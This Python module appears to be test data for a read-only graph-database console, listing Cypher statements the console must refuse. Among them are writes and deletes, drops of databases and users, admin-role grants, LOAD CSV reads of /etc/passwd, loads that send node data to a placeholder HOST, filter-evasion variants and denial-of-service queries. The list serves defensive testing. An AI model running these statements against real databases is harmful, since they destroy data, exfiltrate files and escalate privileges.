"""Statements that a console must not obey. HOST stands for the address of a listener that must hear nothing."""

WRITES = """
CREATE (n:Evil) RETURN n
CREATE (n:Entity:Group {id: 'group:evil', name: 'Evil'})
MERGE (n:Evil {id: 1}) RETURN n
MATCH (n) SET n.name = 'x' RETURN n
MATCH (n) SET n += {name: 'x'}
MATCH (n) SET n:Evil
MATCH (n) REMOVE n.name
MATCH (n) REMOVE n:Group
MATCH (n) DETACH DELETE n
MATCH (n) DELETE n
MATCH ()-[r]->() DELETE r
MATCH (n) FOREACH (x IN [1] | SET n.name = 'x')
MATCH (n) CALL { WITH n SET n.name = 'x' } RETURN n
MATCH (n) CALL (n) { SET n.name = 'x' } RETURN n
UNWIND [1] AS x CALL { WITH x CREATE (:Evil) } IN TRANSACTIONS RETURN x
MATCH (n) WITH n LIMIT 1 CREATE (m:Evil) RETURN m
cReAtE (n:Evil) ReTuRn n
/* a comment */ CREATE (n:Evil)
// a comment
CREATE (n:Evil)
MATCH (n) RETURN n; CREATE (m:Evil)
MATCH (n) RETURN n UNION CREATE (m:Evil) RETURN m AS n
EXPLAIN CREATE (n:Evil)
PROFILE CREATE (n:Evil) RETURN n
PROFILE MATCH (n) DETACH DELETE n
CYPHER runtime=interpreted CREATE (n:Evil)
CYPHER 5 CREATE (n:Evil)
\\u0043REATE (n:Evil)
MATCH (n) \\u0053ET n.name = 'x'
C\u200bREATE (n:Evil)
CREATE\u00a0(n:Evil)
ＣＲＥＡＴＥ (n:Evil)
INSERT (n:Evil)
DELETE FROM Entity
INSERT INTO Entity SET id = 'x'
""".strip().splitlines()

SCHEMA_AND_ADMIN = """
CREATE INDEX evil IF NOT EXISTS FOR (n:Evil) ON (n.x)
CREATE CONSTRAINT evil IF NOT EXISTS FOR (n:Evil) REQUIRE n.x IS UNIQUE
CREATE FULLTEXT INDEX evil IF NOT EXISTS FOR (n:Evil) ON EACH [n.x]
DROP INDEX entity_search
DROP INDEX entity_search IF EXISTS
DROP CONSTRAINT entity_id
CREATE USER evil SET PASSWORD 'evilevil'
ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'bbbbbbbb'
DROP USER neo4j
SHOW USERS
SHOW DATABASES
SHOW SETTINGS
SHOW TRANSACTIONS
SHOW FUNCTIONS
SHOW PROCEDURES
SHOW SERVERS
SHOW PRIVILEGES
SHOW CURRENT USER
TERMINATE TRANSACTIONS 'neo4j-transaction-1'
SHOW TRANSACTIONS YIELD transactionId AS id TERMINATE TRANSACTIONS id YIELD message RETURN message
CREATE DATABASE evil
DROP DATABASE neo4j
STOP DATABASE neo4j
CREATE ALIAS evil FOR DATABASE neo4j
GRANT ROLE admin TO neo4j
USE system SHOW USERS
CREATE DOCUMENT TYPE Evil
ALTER DATABASE `arcadedb.command.timeout` 0
BACKUP DATABASE
EXPORT DATABASE
IMPORT DATABASE http://HOST/x
""".strip().splitlines()

PROCEDURES = """
CALL dbms.listConfig()
CALL dbms.listConfig() YIELD name RETURN name
CALL dbms.killConnection('bolt-1')
CALL dbms.killQuery('query-1')
CALL dbms.queryJmx('*:*')
CALL dbms.security.createUser('evil', 'evilevil', false)
CALL dbms.security.listUsers()
CALL db.clearQueryCaches()
CALL db.prepareForReplanning()
CALL db.resampleOutdatedIndexes()
CALL db.createLabel('Evil')
CALL db.createProperty('evil')
CALL db.index.fulltext.drop('entity_search')
CALL db.index.fulltext.createNodeIndex('evil', ['Evil'], ['x'])
CALL `dbms`.`listConfig`()
CALL dbms . listConfig()
CALL /* x */ dbms.listConfig()
CALL apoc.util.sleep(8000)
RETURN apoc.util.sleep(8000)
CALL apoc.load.json('http://HOST/x')
CALL apoc.load.json('file:///etc/passwd')
CALL apoc.cypher.run('CREATE (n:Evil)', {})
CALL apoc.cypher.doIt('CREATE (n:Evil)', {})
CALL apoc.create.node(['Evil'], {})
CALL merge.node(['Evil'], {}, {})
CALL apoc.merge.node(['Evil'], {}, {})
CALL apoc.export.csv.all('/tmp/evil.csv', {})
CALL apoc.refactor.rename.label('Group', 'Evil')
CALL tx.setMetaData({evil: true})
CALL dbms.upgrade()
MATCH (n) CALL db.clearQueryCaches() YIELD value RETURN value
""".strip().splitlines()

FILES_AND_NETWORK = """
LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line
LOAD CSV WITH HEADERS FROM 'file:///etc/passwd' AS line RETURN line
LOAD CSV FROM 'http://HOST/secret.csv' AS line RETURN line
LOAD CSV FROM 'https://HOST/secret.csv' AS line RETURN line
LOAD CSV FROM 'ftp://HOST/secret.csv' AS line RETURN line
load  csv from 'file:///etc/passwd' as line return line
LOAD /* x */ CSV FROM 'file:///etc/passwd' AS line RETURN line
LOAD
CSV FROM 'file:///etc/passwd' AS line RETURN line
MATCH (n) WITH n LIMIT 1 LOAD CSV FROM 'http://HOST/' + n.name AS line RETURN line
CALL { LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line } RETURN line
""".strip().splitlines()

ENDLESS = """
UNWIND range(1, 1000000) AS a UNWIND range(1, 1000000) AS b RETURN count(*)
MATCH (a), (b), (c), (d), (e), (f), (g), (h), (i), (j), (k), (l), (m), (n), (o), (p) RETURN count(*)
WITH range(1, 100000000) AS big RETURN size(big)
RETURN reduce(s = 'a', i IN range(1, 40) | s + s)
UNWIND range(1, 100000000) AS a RETURN collect(a)
""".strip().splitlines()

STATEMENTS: tuple[str, ...] = tuple(line for part in (WRITES, SCHEMA_AND_ADMIN, PROCEDURES, FILES_AND_NETWORK) for line in part)
